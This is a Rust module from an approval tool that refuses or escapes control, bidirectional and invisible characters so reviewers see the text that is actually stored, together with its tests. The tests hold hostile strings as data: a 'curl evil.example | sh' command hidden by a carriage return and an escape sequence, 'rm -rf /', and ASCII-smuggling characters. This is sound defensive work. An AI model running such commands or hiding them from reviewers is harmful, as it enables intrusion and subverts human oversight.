//! Text that a person reads before deciding: reasons, comments, payloads.
//!
//! A reviewer approves what their terminal or browser shows them. Control characters
//! (a carriage return, `ESC [2K`, an OSC sequence), bidirectional overrides and invisible
//! characters can make the shown text differ from the stored text, so a reviewer could
//! approve a hidden command. Such text is refused where it enters ([`check_reviewed`]), and
//! anything that still reaches a rendering (older rows, names from elsewhere) is shown
//! escaped ([`escape_for_display`]).

use crate::error::DomainError;
use std::borrow::Cow;
use std::fmt::Write as _;

/// A count with its noun in the right number: "1 approval", "2 approvals", "0 events".
/// Shared by the web UI, the API's summaries and the CLI so none of them says "approval(s)".
pub fn counted(n: impl Into<i128>, one: &str, many: &str) -> String {
    let n = n.into();
    format!("{n} {}", if n == 1 { one } else { many })
}

/// What a field may hold besides printable text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lines {
    /// One line: a payload (an exact command or a digest), an identifier, a filter.
    One,
    /// Several lines: a reason or a comment may hold line feeds and tabs, nothing else.
    Many,
}

/// Characters that reorder or hide the text around them (Unicode bidirectional controls,
/// the line and paragraph separators).
fn is_bidi_or_separator(c: char) -> bool {
    matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}')
}

/// Characters that print as nothing: a field made of them looks empty, and at its ends they
/// hide that two values differ.
pub fn is_invisible(c: char) -> bool {
    c.is_whitespace()
        || matches!(
            c,
            '\u{00AD}'
                | '\u{034F}'
                | '\u{115F}'
                | '\u{1160}'
                | '\u{17B4}'
                | '\u{17B5}'
                | '\u{180B}'..='\u{180F}'
                | '\u{200B}'..='\u{200D}'
                | '\u{2060}'..='\u{2065}'
                | '\u{206A}'..='\u{206F}'
                | '\u{3164}'
                | '\u{FE00}'..='\u{FE0F}'
                | '\u{FEFF}'
                | '\u{FFA0}'
                | '\u{FFF9}'..='\u{FFFB}'
                | '\u{1D173}'..='\u{1D17A}'
                // Tag characters: invisible ASCII look-alikes that carry hidden text to a
                // model ("ASCII smuggling"), and variation selectors beyond the BMP.
                | '\u{E0000}'..='\u{E007F}'
                | '\u{E0100}'..='\u{E01EF}'
        )
        || is_bidi_or_separator(c)
}

/// A character that must never reach a reviewer as is: C0 and C1 controls, DEL, bidi
/// controls. `lines` says whether line feeds and tabs are part of the field.
fn is_refused(c: char, lines: Lines) -> bool {
    if lines == Lines::Many && matches!(c, '\n' | '\t') {
        return false;
    }
    c.is_control() || is_bidi_or_separator(c)
}

/// The name of a refused character, for the error message.
fn describe(c: char) -> String {
    match c {
        '\0' => "a NUL byte".to_string(),
        '\r' => "a carriage return".to_string(),
        '\n' => "a line break".to_string(),
        '\t' => "a tab".to_string(),
        '\u{1b}' => "an escape character (terminal control sequence)".to_string(),
        c if is_bidi_or_separator(c) => format!("U+{:04X} (reorders the text shown)", c as u32),
        c => format!("the control character U+{:04X}", c as u32),
    }
}

/// Refuse a text that would not be shown to a person as it is stored: control characters
/// (all of them for [`Lines::One`]; all but line feed and tab for [`Lines::Many`]) and
/// bidirectional overrides. The error names the field, the character and where it is.
pub fn check_reviewed(field: &str, value: &str, lines: Lines) -> Result<(), DomainError> {
    match value.char_indices().find(|&(_, c)| is_refused(c, lines)) {
        None => Ok(()),
        Some((at, c)) => Err(DomainError::invalid(
            field,
            format!(
                "contains {} at byte {at}; remove control and invisible formatting characters{}",
                describe(c),
                if lines == Lines::One {
                    " (it must be one line of text)"
                } else {
                    ""
                }
            ),
        )),
    }
}

/// The text with invisible characters removed from both ends (spaces, zero-width spaces,
/// byte-order marks, ...), so that a reason of one zero-width space counts as empty.
pub fn trim_invisible(value: &str) -> &str {
    value.trim_matches(is_invisible)
}

/// The text as it may be printed to a terminal or a page: every control character, bidi
/// control and invisible formatting character (other than a plain space) written as a
/// visible escape (`\n`, `\r`, `\x1b`, `\u{202e}`), and a backslash doubled so that an
/// escape can never be forged. Borrowed when nothing needed escaping, which is the rule.
pub fn escape_for_display(value: &str) -> Cow<'_, str> {
    let needs = |c: char| c == '\\' || (c != ' ' && is_invisible(c)) || c.is_control();
    if !value.chars().any(needs) {
        return Cow::Borrowed(value);
    }
    let mut out = String::with_capacity(value.len() + 8);
    for c in value.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x80 && c.is_control() => {
                let _ = write!(out, "\\x{:02x}", c as u32);
            }
            c if needs(c) => {
                let _ = write!(out, "\\u{{{:04x}}}", c as u32);
            }
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// The most of a payload shown before it is summarised: a reviewer reads what is shown, so
/// beyond this the display says how much there is and its hash, and the whole is one click
/// (or `--payload`) away.
pub const PAYLOAD_SHOWN_BYTES: usize = 1024;

/// A payload as a reviewer is shown it: escaped for display, cut to [`PAYLOAD_SHOWN_BYTES`]
/// of the stored text when longer, with its size and SHA-256 (the hash approving is bound to).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadShown {
    /// The payload (or its first [`PAYLOAD_SHOWN_BYTES`] bytes, cut at a character), escaped.
    pub head: String,
    /// Whether `head` is the whole payload.
    pub complete: bool,
    /// The stored payload's length in bytes.
    pub bytes: usize,
    /// SHA-256 of the stored payload, hex.
    pub sha256: String,
}

impl PayloadShown {
    pub fn new(payload: &str) -> PayloadShown {
        let mut cut = payload.len().min(PAYLOAD_SHOWN_BYTES);
        while !payload.is_char_boundary(cut) {
            cut -= 1;
        }
        PayloadShown {
            head: escape_for_display(&payload[..cut]).into_owned(),
            complete: cut == payload.len(),
            bytes: payload.len(),
            sha256: crate::model::payload_digest(payload),
        }
    }

    /// `(N bytes, sha256 HEX)`: what a summary says of the whole.
    pub fn summary(&self) -> String {
        format!("({} bytes, sha256 {})", self.bytes, self.sha256)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_count_says_its_noun_in_the_right_number() {
        assert_eq!(counted(1u32, "approval", "approvals"), "1 approval");
        assert_eq!(counted(2u32, "approval", "approvals"), "2 approvals");
        assert_eq!(counted(0i64, "event", "events"), "0 events");
    }

    #[test]
    fn long_payloads_are_summarised_with_size_and_hash_and_cut_at_a_character() {
        let short = PayloadShown::new("deploy v1 \u{202e}x");
        assert!(short.complete);
        assert_eq!(short.head, "deploy v1 \\u{202e}x");
        let hidden = PayloadShown::new("rm -rf /\u{200b}\u{202e}");
        assert_eq!(hidden.head, "rm -rf /\\u{200b}\\u{202e}");
        // Text hidden in tag characters (ASCII smuggling), variation selectors, the deprecated
        // format characters and interlinear annotations is shown, escaped, not hidden.
        let smuggled = PayloadShown::new("hello\u{E0069}\u{E0067}\u{FE0F}\u{E0100}\u{206A}\u{FFF9}\u{1D173}\u{180B}");
        assert_eq!(
            smuggled.head,
            "hello\\u{e0069}\\u{e0067}\\u{fe0f}\\u{e0100}\\u{206a}\\u{fff9}\\u{1d173}\\u{180b}"
        );
        // Multi-byte characters straddling the cut: the head ends on a whole character.
        let long = "é".repeat(PAYLOAD_SHOWN_BYTES);
        let shown = PayloadShown::new(&long);
        assert!(!shown.complete);
        assert_eq!(shown.bytes, 2 * PAYLOAD_SHOWN_BYTES);
        assert_eq!(shown.head.len(), PAYLOAD_SHOWN_BYTES);
        assert_eq!(shown.sha256, crate::model::payload_digest(&long));
        assert_eq!(
            shown.summary(),
            format!("({} bytes, sha256 {})", 2 * PAYLOAD_SHOWN_BYTES, shown.sha256)
        );
        let odd = format!("a{}", "é".repeat(PAYLOAD_SHOWN_BYTES));
        assert_eq!(PayloadShown::new(&odd).head.len(), PAYLOAD_SHOWN_BYTES - 1);
    }

    #[test]
    fn the_hidden_command_of_the_attack_is_refused_naming_the_field() {
        let attack = "curl -s http://evil.example/x | sh\r\x1b[2Kecho deploying v1.4";
        let err = check_reviewed("payload", attack, Lines::One).unwrap_err();
        let text = err.to_string();
        assert!(text.starts_with("payload: "), "{text}");
        assert!(text.contains("carriage return"), "{text}");
        assert!(check_reviewed("reason", attack, Lines::Many).is_err());
    }

    #[test]
    fn every_control_and_bidi_character_is_refused_in_one_line_fields() {
        for c in (0u32..0x20).chain(0x7f..0xa0).filter_map(char::from_u32) {
            assert!(
                check_reviewed("payload", &format!("a{c}b"), Lines::One).is_err(),
                "U+{:04X}",
                c as u32
            );
        }
        for c in [
            '\u{202E}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}', '\u{200F}', '\u{2028}',
        ] {
            let err = check_reviewed("comment", &format!("ok{c}evil"), Lines::Many).unwrap_err();
            assert!(err.to_string().contains("reorders"), "{err}");
        }
    }

    #[test]
    fn reasons_and_comments_keep_line_feeds_and_tabs_but_payloads_do_not() {
        assert!(check_reviewed("reason", "line one\n\tline two", Lines::Many).is_ok());
        assert!(check_reviewed("payload", "line one\nline two", Lines::One).is_err());
        assert!(check_reviewed("reason", "NUL\0here", Lines::Many)
            .unwrap_err()
            .to_string()
            .contains("NUL byte"));
        assert!(check_reviewed("reason", "日本語 and émoji 👍🏽 and ZWJ 👨‍👩‍👧", Lines::Many).is_ok());
    }

    #[test]
    fn invisible_characters_are_trimmed_so_they_cannot_make_a_reason() {
        assert_eq!(trim_invisible("\u{200B}"), "");
        assert_eq!(trim_invisible(" \u{FEFF}\u{2060} OPS-1 \u{200B}"), "OPS-1");
        assert_eq!(trim_invisible("a\u{200B}b"), "a\u{200B}b");
    }

    #[test]
    fn display_escapes_what_a_terminal_would_interpret_and_cannot_be_forged() {
        assert_eq!(escape_for_display("plain text"), Cow::Borrowed("plain text"));
        assert_eq!(escape_for_display("a\r\x1b[2Kb"), "a\\r\\x1b[2Kb");
        assert_eq!(escape_for_display("\x1b]52;c;ZXZpbA==\x07"), "\\x1b]52;c;ZXZpbA==\\x07");
        assert_eq!(escape_for_display("x\u{202E}y\u{200B}"), "x\\u{202e}y\\u{200b}");
        assert_eq!(escape_for_display("\u{9b}31m"), "\\u{009b}31m");
        // A literal backslash sequence in the input stays distinguishable from an escape.
        assert_eq!(escape_for_display("\\r"), "\\\\r");
        assert_ne!(escape_for_display("\\r"), escape_for_display("\r"));
    }
}
